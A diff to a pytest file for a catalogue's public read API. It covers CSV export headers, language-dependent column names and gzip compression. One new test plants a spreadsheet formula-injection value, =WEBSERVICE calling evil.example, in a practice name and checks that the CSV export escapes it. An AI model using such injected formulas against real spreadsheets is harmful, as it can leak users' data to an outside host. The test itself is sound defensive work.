@@ -1,7 +1,9 @@
 """The public read API: same filters as the page, published sheets only, licence in every record."""
 
+import codecs
 import csv
 import io
+import json
 
 import pytest
 
@@ -47,10 +49,21 @@ def test_geojson_has_one_feature_per_place(client, catalogue):
 
 def test_csv_export(client, catalogue):
     response = client.get("/api/v1/practices.csv", {"category": "cover-crops"})
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
-    assert [r["name"] for r in rows] == ["Cover crops"]
-    assert rows[0]["licence"] == "CC BY-SA 4.0"
-    assert rows[0]["climate_zones"] == "warm-temperate-moist"
+    assert response.content.startswith(codecs.BOM_UTF8)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [r["Name"] for r in rows] == ["Cover crops"]
+    assert rows[0]["Licence"] == "CC BY-SA 4.0"
+    assert rows[0]["Climate zones"] == "warm-temperate-moist"
+
+
+def test_csv_export_headers_follow_lang_and_formulas_stay_text(client, catalogue):
+    from practices.models import Practice
+
+    Practice.objects.filter(name_en="Cover crops").update(name_fr='=WEBSERVICE("https://evil.example")')
+    response = client.get("/api/v1/practices.csv", {"category": "cover-crops", "lang": "fr"})
+    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert header[3:6] == ["Nom", "Définition", "Catégorie"]
+    assert row[3] == '\'=WEBSERVICE("https://evil.example")'
 
 
 def test_openapi_schema_documents_the_three_formats(client, db):
@@ -81,3 +94,19 @@ def test_rate_limit_per_ip(client, catalogue, settings):
     assert int(refused["Retry-After"]) <= 60
     # Another address is not affected.
     assert client.get("/api/v1/practices/", REMOTE_ADDR="10.0.0.2").status_code == 200
+
+
+def test_json_answers_are_compressed_for_clients_that_ask(client, catalogue):
+    import gzip
+
+    for _ in range(4):  # enough records for compression to pay
+        make_practice()
+    plain = client.get("/api/v1/practices/", {"page_size": 50})
+    zipped = client.get("/api/v1/practices/", {"page_size": 50}, HTTP_ACCEPT_ENCODING="gzip")
+    assert zipped["Content-Encoding"] == "gzip" and "Accept-Encoding" in zipped["Vary"]
+    assert json.loads(gzip.decompress(zipped.content)) == plain.json()
+    geojson = client.get("/api/v1/practices.geojson", HTTP_ACCEPT_ENCODING="gzip")
+    assert geojson["Content-Encoding"] == "gzip"
+    assert json.loads(gzip.decompress(geojson.content))["type"] == "FeatureCollection"
+    # HTML pages are left as they are.
+    assert "Content-Encoding" not in client.get("/en/practices/", HTTP_ACCEPT_ENCODING="gzip")
